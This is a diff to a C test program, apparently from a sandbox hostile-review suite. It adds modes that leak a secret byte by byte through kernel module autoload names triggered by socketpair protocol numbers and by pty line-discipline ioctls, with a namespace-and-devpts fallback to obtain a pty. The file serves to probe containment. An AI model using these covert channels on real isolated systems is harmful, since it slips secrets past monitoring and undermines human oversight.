@@ -21,6 +21,17 @@
  *                               search_binary_handler runs
  *                               request_module("binfmt-%04x") with them
  *                               (hostile review h-attack40)
+ *   modprobe-name socketpair SECRET  socketpair(AF_INET, SOCK_DGRAM, B) for
+ *                               each byte B of SECRET: inet_create asks for
+ *                               "net-pf-2-proto-B-type-2" and
+ *                               "net-pf-2-proto-B" before the pair is
+ *                               refused (hostile review h-attack57)
+ *   modprobe-name ldisc SECRET  a pty of its own (a devpts instance in a
+ *                               user and mount namespace of its own on
+ *                               /tmp: the run's /dev has no ptmx), then
+ *                               TIOCSETD with 1 + B % 29 for each byte B:
+ *                               "tty-ldisc-N" where dev.tty.ldisc_autoload
+ *                               is 1 (h-attack57)
  *   modprobe-name install DEST  root service (guest cell): copies itself to
  *                               /sbin/ha13-modprobe-helper, points
  *                               kernel.modprobe at it, writes DEST, holds a
@@ -41,7 +52,10 @@
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
+#include <termios.h>
 #include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -88,6 +102,38 @@ static int install(const char *dest)
 	return 0;
 }
 
+/* ldisc mode: the pty's peer, from the run's /dev or a devpts of its own;
+ * then one TIOCSETD a byte of the secret. Returns the last TIOCSETD's
+ * result, or -1 when no pty could be had (no trapped call made). */
+static long ldisc(const char *secret)
+{
+	int m = open("/dev/ptmx", O_RDWR | O_NOCTTY), s;
+	long rc = -1;
+
+	if (m < 0) {
+		rc = unshare(CLONE_NEWUSER | CLONE_NEWNS);
+		printf("agent: unshare(user, mount) = %ld (%s)\n", rc,
+		       rc < 0 ? strerror(errno) : "ok");
+		rc = mount("devpts", "/tmp", "devpts", 0, "newinstance,ptmxmode=0666,mode=0666");
+		printf("agent: mount devpts on /tmp = %ld (%s)\n", rc,
+		       rc < 0 ? strerror(errno) : "ok");
+		m = open("/tmp/ptmx", O_RDWR | O_NOCTTY);
+	}
+	if (m < 0 || unlockpt(m) != 0 || (s = ioctl(m, TIOCGPTPEER, O_RDWR | O_NOCTTY)) < 0) {
+		printf("agent: no pty (%s)\n", strerror(errno));
+		return -1;
+	}
+	for (const char *c = secret; *c; c++) {
+		int n = 1 + (unsigned char)*c % 29;
+
+		rc = ioctl(s, TIOCSETD, &n);
+		printf("agent: TIOCSETD %d = %ld (%s)\n", n, rc, rc < 0 ? strerror(errno) : "ok");
+		if (rc == 0)
+			ioctl(s, TIOCSETD, &(int){0});
+	}
+	return rc;
+}
+
 int main(int argc, char **argv)
 {
 	const char *mode = argc > 1 ? argv[1] : "dh";
@@ -129,8 +175,25 @@ int main(int argc, char **argv)
 			       secret[i + 1], rc, rc < 0 ? strerror(errno) : "ok");
 			close(fd);
 		}
+	} else if (strcmp(mode, "socketpair") == 0) {
+		int sv[2];
+
+		rc = 0;
+		for (const char *c = secret; *c; c++) {
+			long r = socketpair(AF_INET, SOCK_DGRAM, (unsigned char)*c, sv);
+
+			printf("agent: socketpair(AF_INET, SOCK_DGRAM, %u) = %ld (%s)\n",
+			       (unsigned char)*c, r, r < 0 ? strerror(errno) : "ok");
+			if (r == 0) {
+				close(sv[0]);
+				close(sv[1]);
+			}
+		}
+	} else if (strcmp(mode, "ldisc") == 0) {
+		rc = ldisc(secret);
 	} else {
-		fprintf(stderr, "usage: modprobe-name dh|fsopen|binfmt|install SECRET\n");
+		fprintf(stderr, "usage: modprobe-name dh|fsopen|binfmt|socketpair|ldisc|install "
+				"SECRET\n");
 		return 2;
 	}
 	printf("agent uid %d: %s(%s) = %ld (%s)\n", getuid(), mode, secret, rc,
